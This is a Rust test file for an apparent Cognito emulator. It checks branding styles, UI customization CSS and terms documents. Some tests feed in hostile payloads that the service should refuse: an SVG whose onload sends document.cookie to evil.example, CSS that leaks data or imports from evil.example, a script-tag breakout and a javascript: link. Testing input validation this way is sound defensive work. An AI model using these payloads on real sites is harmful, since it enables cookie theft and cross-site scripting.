//! How an app client's pages look, through the AWS SDK: managed-login branding styles, the
//! classic UI customization and terms documents, their refusals, and the hosted pages and
//! files they make.

use aws_sdk_cognitoidentityprovider::Client;
use aws_sdk_cognitoidentityprovider::error::ProvideErrorMetadata;
use aws_sdk_cognitoidentityprovider::primitives::Blob;
use aws_sdk_cognitoidentityprovider::types::{
    AssetCategoryType, AssetExtensionType, AssetType, ColorSchemeModeType, TermsEnforcementType,
    TermsSourceType,
};
use serde_json::json;

use crate::cognito_admin::admin;
use crate::helpers::spawn_app;
use crate::passkeys::{to_document, to_json};

/// A 1×1 PNG.
const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1F, 0x15, 0xC4,
    0x89, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0xF8, 0xCF, 0xC0, 0xF0,
    0x1F, 0x00, 0x05, 0x00, 0x01, 0xFF, 0x89, 0x99, 0x3D, 0x1D, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45,
    0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

/// A new pool with two app clients: their ids.
async fn pool_with_clients(sdk: &Client) -> (String, String, String) {
    let pool = sdk
        .create_user_pool()
        .pool_name("Branded")
        .send()
        .await
        .unwrap()
        .user_pool()
        .unwrap()
        .id()
        .unwrap()
        .to_string();
    let mut clients = Vec::new();
    for name in ["shop", "plain"] {
        let client = sdk
            .create_user_pool_client()
            .user_pool_id(&pool)
            .client_name(name)
            .send()
            .await
            .unwrap();
        clients.push(
            client
                .user_pool_client()
                .unwrap()
                .client_id()
                .unwrap()
                .to_string(),
        );
    }
    (pool, clients.remove(0), clients.remove(0))
}

fn asset(
    category: AssetCategoryType,
    mode: ColorSchemeModeType,
    ext: AssetExtensionType,
    bytes: &[u8],
) -> AssetType {
    AssetType::builder()
        .category(category)
        .color_mode(mode)
        .extension(ext)
        .bytes(Blob::new(bytes))
        .build()
        .unwrap()
}

fn settings() -> serde_json::Value {
    json!({
        "categories": {"global": {"colorSchemeMode": "LIGHT"}},
        "components": {
            "primaryButton": {"lightMode": {"defaults": {"backgroundColor": "0a7d3eff", "textColor": "ffffffff"}}},
            "pageBackground": {"lightMode": {"color": "fdf6e3ff"}}
        },
        "editorOnly": {"kept": true}
    })
}

/// The href of the page's branding stylesheet, if it has one.
fn brand_stylesheet(html: &str) -> Option<String> {
    let at = html.find("data-testid=\"brand-style\"")?;
    let tag_start = html[..at].rfind("<link")?;
    let tag = &html[tag_start..at + 30];
    let href = tag.split("href=\"").nth(1)?.split('"').next()?;
    Some(href.replace("&amp;", "&"))
}

#[tokio::test]
async fn a_branding_style_is_created_described_updated_and_deleted() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, _) = pool_with_clients(&sdk).await;

    let created = sdk
        .create_managed_login_branding()
        .user_pool_id(&pool)
        .client_id(&shop)
        .settings(to_document(&settings()))
        .assets(asset(
            AssetCategoryType::FormLogo,
            ColorSchemeModeType::Light,
            AssetExtensionType::Png,
            PNG,
        ))
        .send()
        .await
        .expect("a style is created")
        .managed_login_branding
        .unwrap();
    let id = created.managed_login_branding_id().unwrap().to_string();
    assert_eq!(created.user_pool_id(), Some(pool.as_str()));
    assert!(!created.use_cognito_provided_values());
    assert_eq!(
        to_json(created.settings().unwrap())["editorOnly"],
        json!({"kept": true})
    );
    assert_eq!(created.assets().len(), 1);

    // One style a client.
    let again = sdk
        .create_managed_login_branding()
        .user_pool_id(&pool)
        .client_id(&shop)
        .use_cognito_provided_values(true)
        .send()
        .await
        .unwrap_err();
    assert_eq!(again.code(), Some("ManagedLoginBrandingExistsException"));

    let by_client = sdk
        .describe_managed_login_branding_by_client()
        .user_pool_id(&pool)
        .client_id(&shop)
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();
    assert_eq!(by_client.managed_login_branding_id(), Some(id.as_str()));
    assert_eq!(by_client.assets()[0].bytes().unwrap().as_ref(), PNG);

    // An update lays its settings over the stored ones and replaces the asset of its
    // category and mode only.
    let updated = sdk
        .update_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .settings(to_document(
            &json!({"components": {"pageBackground": {"lightMode": {"color": "112233ff"}}}}),
        ))
        .assets(asset(
            AssetCategoryType::PageHeaderLogo,
            ColorSchemeModeType::Dynamic,
            AssetExtensionType::Png,
            PNG,
        ))
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();
    let kept = to_json(updated.settings().unwrap());
    assert_eq!(
        kept["components"]["pageBackground"]["lightMode"]["color"],
        "112233ff"
    );
    assert_eq!(
        kept["components"]["primaryButton"]["lightMode"]["defaults"]["backgroundColor"],
        "0a7d3eff"
    );
    assert_eq!(updated.assets().len(), 2);

    // Merged, the description carries Cognate's defaults under the style's settings.
    let merged = sdk
        .describe_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .return_merged_resources(true)
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();
    let merged = to_json(merged.settings().unwrap());
    assert_eq!(
        merged["components"]["pageBackground"]["lightMode"]["color"],
        "112233ff"
    );
    assert!(merged["componentClasses"]["link"]["darkMode"]["defaults"]["textColor"].is_string());

    sdk.delete_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .send()
        .await
        .unwrap();
    let gone = sdk
        .describe_managed_login_branding()
        .user_pool_id(&pool)
        .managed_login_branding_id(&id)
        .send()
        .await
        .unwrap_err();
    assert_eq!(gone.code(), Some("ResourceNotFoundException"));
    app.stop().await;
}

#[tokio::test]
async fn a_style_that_could_run_script_or_lies_about_its_files_is_refused() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, _) = pool_with_clients(&sdk).await;
    let create = || {
        sdk.create_managed_login_branding()
            .user_pool_id(&pool)
            .client_id(&shop)
    };

    let hostile_svg = br#"<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://evil.example/'+document.cookie)"><rect/></svg>"#;
    let refusals = [
        (
            create().assets(asset(
                AssetCategoryType::FormLogo,
                ColorSchemeModeType::Light,
                AssetExtensionType::Svg,
                hostile_svg,
            )),
            "could run script",
        ),
        (
            create().assets(asset(
                AssetCategoryType::FormLogo,
                ColorSchemeModeType::Light,
                AssetExtensionType::Jpeg,
                PNG,
            )),
            "not the JPEG",
        ),
        (
            create().assets(asset(
                AssetCategoryType::FormLogo,
                ColorSchemeModeType::Light,
                AssetExtensionType::Png,
                &[PNG, &vec![0; 1_000_000]].concat(),
            )),
            "larger than",
        ),
        (
            create()
                .assets(asset(
                    AssetCategoryType::FormLogo,
                    ColorSchemeModeType::Light,
                    AssetExtensionType::Png,
                    PNG,
                ))
                .assets(asset(
                    AssetCategoryType::FormLogo,
                    ColorSchemeModeType::Light,
                    AssetExtensionType::Png,
                    PNG,
                )),
            "Two assets",
        ),
        (
            create()
                .use_cognito_provided_values(true)
                .settings(to_document(&settings())),
            "UseCognitoProvidedValues",
        ),
        (
            create().settings(to_document(&json!(["not", "an", "object"]))),
            "JSON object",
        ),
    ];
    for (request, words) in refusals {
        let error = request.send().await.unwrap_err();
        assert_eq!(error.code(), Some("InvalidParameterException"), "{words}");
        assert!(
            error.message().unwrap().contains(words),
            "{:?} lacks {words}",
            error.message()
        );
    }
    // Nothing refused was kept: the client has no style.
    let none = sdk
        .describe_managed_login_branding_by_client()
        .user_pool_id(&pool)
        .client_id(&shop)
        .send()
        .await
        .unwrap_err();
    assert_eq!(none.code(), Some("ResourceNotFoundException"));

    // Another pool's client cannot be given a style through this pool.
    let (other_pool, _, _) = pool_with_clients(&sdk).await;
    let elsewhere = sdk
        .create_managed_login_branding()
        .user_pool_id(&other_pool)
        .client_id(&shop)
        .use_cognito_provided_values(true)
        .send()
        .await
        .unwrap_err();
    assert_eq!(elsewhere.code(), Some("ResourceNotFoundException"));
    app.stop().await;
}

#[tokio::test]
async fn a_branded_clients_pages_carry_its_look_from_the_first_byte_and_its_files_are_served() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, plain) = pool_with_clients(&sdk).await;
    let svg = br##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4" fill="#0a7d3e"/></svg>"##;
    let style = sdk
        .create_managed_login_branding()
        .user_pool_id(&pool)
        .client_id(&shop)
        .settings(to_document(&settings()))
        .assets(asset(
            AssetCategoryType::FormLogo,
            ColorSchemeModeType::Light,
            AssetExtensionType::Png,
            PNG,
        ))
        .assets(asset(
            AssetCategoryType::FaviconSvg,
            ColorSchemeModeType::Light,
            AssetExtensionType::Svg,
            svg,
        ))
        .send()
        .await
        .unwrap()
        .managed_login_branding
        .unwrap();

    let page = app
        .get(&format!("/login?client_id={shop}"))
        .await
        .text()
        .await
        .unwrap();
    let href = brand_stylesheet(&page).expect("the branded page links its stylesheet");
    assert!(
        page.contains("type=\"image/svg+xml\" href=\"/branding/"),
        "the style's favicon"
    );
    let plain_page = app
        .get(&format!("/login?client_id={plain}"))
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        brand_stylesheet(&plain_page),
        None,
        "an unbranded client looks as Cognate"
    );

    let sheet = app.get(&href).await;
    assert_eq!(sheet.headers()["content-type"], "text/css; charset=utf-8");
    assert!(
        sheet.headers()["cache-control"]
            .to_str()
            .unwrap()
            .contains("immutable")
    );
    let css = sheet.text().await.unwrap();
    assert!(css.contains("color-scheme:light;"), "{css}");
    assert!(css.contains("--button:#0a7d3eff;"), "{css}");
    assert!(css.contains("--paper:#fdf6e3ff;"), "{css}");
    let logo = css
        .split("url(\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("the form logo")
        .to_string();

    let served = app.get(&logo).await;
    assert_eq!(served.headers()["content-type"], "image/png");
    assert_eq!(served.bytes().await.unwrap().as_ref(), PNG);
    let svg_url = format!(
        "/branding/{}/FAVICON_SVG/LIGHT",
        style.managed_login_branding_id().unwrap()
    );
    let served = app.get(&svg_url).await;
    assert_eq!(served.headers()["content-type"], "image/svg+xml");
    let policy = served.headers()["content-security-policy"]
        .to_str()
        .unwrap();
    assert!(
        policy.contains("default-src 'none'") && policy.contains("sandbox"),
        "{policy}"
    );
    assert_eq!(
        app.get("/branding/no-such-style/FORM_LOGO/LIGHT")
            .await
            .status(),
        404
    );
    app.stop().await;
}

#[tokio::test]
async fn the_classic_customization_needs_a_domain_takes_only_its_classes_and_falls_back_to_the_pools()
 {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, plain) = pool_with_clients(&sdk).await;
    let css = ".submitButton-customizable { background-color: #7a1f5c; } .label-customizable { font-weight: 700 }";

    let no_domain = sdk
        .set_ui_customization()
        .user_pool_id(&pool)
        .css(css)
        .send()
        .await
        .unwrap_err();
    assert_eq!(no_domain.code(), Some("InvalidParameterException"));
    assert!(no_domain.message().unwrap().contains("domain"));

    sdk.create_user_pool_domain()
        .user_pool_id(&pool)
        .domain("branded-shop")
        .send()
        .await
        .unwrap();
    let set = sdk
        .set_ui_customization()
        .user_pool_id(&pool)
        .client_id("ALL")
        .css(css)
        .image_file(Blob::new(PNG))
        .send()
        .await
        .unwrap()
        .ui_customization
        .unwrap();
    assert_eq!(set.css(), Some(css));
    let image_url = set.image_url().expect("the logo's URL").to_string();
    assert!(image_url.starts_with(&app.address), "{image_url}");
    let logo = app.http.get(&image_url).send().await.unwrap();
    assert_eq!(logo.headers()["content-type"], "image/png");

    // A client without its own takes the pool's.
    let plain_view = sdk
        .get_ui_customization()
        .user_pool_id(&pool)
        .client_id(&plain)
        .send()
        .await
        .unwrap();
    assert_eq!(plain_view.ui_customization().unwrap().css(), Some(css));
    let page = app
        .get(&format!("/login?client_id={plain}"))
        .await
        .text()
        .await
        .unwrap();
    let sheet = app
        .get(&brand_stylesheet(&page).expect("the classic look"))
        .await
        .text()
        .await
        .unwrap();
    assert!(
        sheet.contains(
            ".auth-card button[type=\"submit\"]:not(.link-button){background-color:#7a1f5c;}"
        ),
        "{sheet}"
    );

    // Hostile CSS is refused whole, and what was set stays.
    for hostile in [
        ".label-customizable { background-color: url(https://evil.example/leak) }",
        "@import url(https://evil.example/x.css); .label-customizable { color: red }",
        "body { display: none }",
        ".label-customizable { color: red } </style><script>alert(1)</script>",
    ] {
        let error = sdk
            .set_ui_customization()
            .user_pool_id(&pool)
            .client_id(&shop)
            .css(hostile)
            .send()
            .await
            .unwrap_err();
        assert_eq!(error.code(), Some("InvalidParameterException"), "{hostile}");
    }
    let not_an_image = sdk
        .set_ui_customization()
        .user_pool_id(&pool)
        .client_id(&shop)
        .image_file(Blob::new(b"<svg/>".to_vec()))
        .send()
        .await
        .unwrap_err();
    assert_eq!(not_an_image.code(), Some("InvalidParameterException"));
    let shop_view = sdk
        .get_ui_customization()
        .user_pool_id(&pool)
        .client_id(&shop)
        .send()
        .await
        .unwrap();
    assert_eq!(
        shop_view.ui_customization().unwrap().css(),
        Some(css),
        "the pool's, still"
    );
    app.stop().await;
}

#[tokio::test]
async fn terms_are_one_of_each_name_a_client_listed_in_pages_and_refused_when_malformed() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, shop, plain) = pool_with_clients(&sdk).await;
    let create = |client: &str, name: &str| {
        sdk.create_terms()
            .user_pool_id(&pool)
            .client_id(client)
            .terms_name(name)
            .terms_source(TermsSourceType::Link)
            .enforcement(TermsEnforcementType::None)
            .links("cognito:default", "https://shop.example/terms")
            .links("cognito:german", "https://shop.example/de/agb")
    };
    let terms = create(&shop, "terms-of-use")
        .send()
        .await
        .unwrap()
        .terms
        .unwrap();
    assert_eq!(terms.links().len(), 2);
    let twice = create(&shop, "terms-of-use").send().await.unwrap_err();
    assert_eq!(twice.code(), Some("TermsExistsException"));
    create(&shop, "privacy-policy").send().await.unwrap();
    create(&plain, "terms-of-use").send().await.unwrap();

    let by_client = sdk
        .describe_terms_by_client()
        .user_pool_id(&pool)
        .client_id(&shop)
        .terms_name("terms-of-use")
        .send()
        .await
        .unwrap();
    assert_eq!(by_client.terms().unwrap().terms_id(), terms.terms_id());

    // Listed a page at a time.
    let mut seen = Vec::new();
    let mut token = None;
    loop {
        let page = sdk
            .list_terms()
            .user_pool_id(&pool)
            .max_results(2)
            .set_next_token(token)
            .send()
            .await
            .unwrap();
        seen.extend(page.terms().iter().map(|t| t.terms_id().to_string()));
        token = page.next_token().map(str::to_string);
        if token.is_none() {
            break;
        }
    }
    assert_eq!(seen.len(), 3);

    let updated = sdk
        .update_terms()
        .user_pool_id(&pool)
        .terms_id(terms.terms_id())
        .links("cognito:default", "https://shop.example/terms-2027")
        .send()
        .await
        .unwrap()
        .terms
        .unwrap();
    assert_eq!(updated.links().len(), 1);
    let renamed = sdk
        .update_terms()
        .user_pool_id(&pool)
        .terms_id(terms.terms_id())
        .terms_name("privacy-policy")
        .send()
        .await
        .unwrap_err();
    assert_eq!(renamed.code(), Some("TermsExistsException"));

    for (language, link) in [
        ("cognito:klingon", "https://shop.example/tlh"),
        ("cognito:default", "javascript:alert(1)"),
    ] {
        let error = sdk
            .create_terms()
            .user_pool_id(&pool)
            .client_id(&plain)
            .terms_name("privacy-policy")
            .terms_source(TermsSourceType::Link)
            .enforcement(TermsEnforcementType::None)
            .links(language, link)
            .send()
            .await
            .unwrap_err();
        assert_eq!(
            error.code(),
            Some("InvalidParameterException"),
            "{language} {link}"
        );
    }

    sdk.delete_terms()
        .user_pool_id(&pool)
        .terms_id(terms.terms_id())
        .send()
        .await
        .unwrap();
    let gone = sdk
        .describe_terms()
        .user_pool_id(&pool)
        .terms_id(terms.terms_id())
        .send()
        .await
        .unwrap_err();
    assert_eq!(gone.code(), Some("ResourceNotFoundException"));
    app.stop().await;
}

#[tokio::test]
async fn only_the_branding_operations_may_send_large_bodies() {
    let app = spawn_app().await;
    let sdk = admin(&app);
    let (pool, _, _) = pool_with_clients(&sdk).await;
    let error = sdk
        .update_user_pool()
        .user_pool_id(&pool)
        .email_verification_message("x{####}".repeat(60_000))
        .send()
        .await
        .unwrap_err();
    assert_eq!(error.code(), Some("InvalidParameterException"));
    assert!(
        error.message().unwrap().contains("larger than"),
        "{:?}",
        error.message()
    );
    app.stop().await;
}
